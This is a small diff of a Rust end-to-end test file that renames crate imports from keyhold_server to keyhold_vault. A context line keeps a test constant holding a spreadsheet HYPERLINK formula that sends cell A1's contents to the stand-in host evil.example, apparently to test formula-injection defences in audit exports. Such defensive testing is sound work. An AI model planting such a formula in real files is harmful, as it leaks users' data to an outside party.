@@ -5,8 +5,8 @@
 
 use keyhold_core::api::AuditEvent;
 use keyhold_e2e::TestServer;
-use keyhold_server::audit::{ClientInfo, NewEvent};
-use keyhold_server::clock::Clock;
+use keyhold_vault::audit::{ClientInfo, NewEvent};
+use keyhold_vault::clock::Clock;
 
 const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
 
